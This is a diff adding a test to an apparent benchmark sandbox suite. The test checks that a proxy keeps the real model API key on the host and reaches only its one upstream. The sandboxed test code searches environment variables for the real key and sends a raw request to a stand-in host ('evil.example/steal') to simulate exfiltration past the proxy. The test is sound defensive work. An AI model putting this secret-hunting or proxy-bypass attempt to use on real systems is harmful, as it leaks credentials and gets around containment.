@@ -112,3 +112,64 @@ def test_cpu_time_limit(tmp_path: Path) -> None:
     with bounded(30):
         res = run_sandboxed_sync(get_sandbox(), [sys.executable, "-c", "while True: pass"], policy)
     assert not res.timed_out and res.returncode != 0  # SIGXCPU/SIGKILL at one CPU second
+
+
+class _KeyCheck(BaseHTTPRequestHandler):
+    seen: ClassVar[list[tuple[str, str, str]]] = []
+
+    def do_GET(self) -> None:
+        self.seen.append(
+            (self.path, self.headers.get("Authorization", ""), self.headers.get("x-api-key", ""))
+        )
+        body = b"data: one\n\ndata: two\n\n"
+        self.send_response(200)
+        self.send_header("Content-Type", "text/event-stream")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def test_the_model_key_stays_on_the_host(tmp_path: Path) -> None:
+    from lhbench.sandbox.proxy import PLACEHOLDER_KEY, KeyProxy
+
+    real = "sk-real-" + "9" * 20
+    srv = ThreadingHTTPServer(("127.0.0.1", 0), _KeyCheck)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    _KeyCheck.seen.clear()
+    code = (
+        "import os, urllib.request\n"
+        "print(sorted(v for v in os.environ.values() if v.startswith('sk-real')))\n"
+        f"k = {PLACEHOLDER_KEY!r}\n"
+        "r = urllib.request.Request('http://127.0.0.1:18080/v1/models?key=' + k,"
+        " headers={'Authorization': 'Bearer ' + k, 'x-api-key': k})\n"
+        "print(urllib.request.urlopen(r, timeout=5).read().decode().split())\n"
+        # an absolute-form request for another host still goes to the one upstream
+        "import socket\n"
+        "s = socket.create_connection(('127.0.0.1', 18080))\n"
+        "s.sendall(b'GET http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\n"
+        "Connection: close\\r\\n\\r\\n')\n"
+        "print(s.recv(100).split(b' ')[1].decode())\n"
+    )
+    try:
+        with KeyProxy(
+            tmp_path / "model.sock", f"http://127.0.0.1:{srv.server_address[1]}", real
+        ) as proxy:
+            policy = policy_for(
+                tmp_path,
+                env={"OPENAI_API_KEY": PLACEHOLDER_KEY},
+                endpoints=[Endpoint("127.0.0.1", 0, 18080, socket=proxy.path)],
+            )
+            with bounded(60):
+                res = run_sandboxed_sync(get_sandbox(), [sys.executable, "-c", code], policy)
+    finally:
+        srv.shutdown()
+    lines = res.text().splitlines()
+    assert lines[0] == "[]", res.text("stderr")  # no real key anywhere in the sandbox
+    assert lines[1] == "['data:', 'one', 'data:', 'two']"
+    assert lines[2] == "200"
+    (p1, auth, xkey), (p2, _, _) = _KeyCheck.seen
+    assert auth == f"Bearer {real}" and xkey == real and p1 == f"/v1/models?key={real}"
+    assert p2 == "/steal"  # the upstream's own path: the proxy reaches nothing else
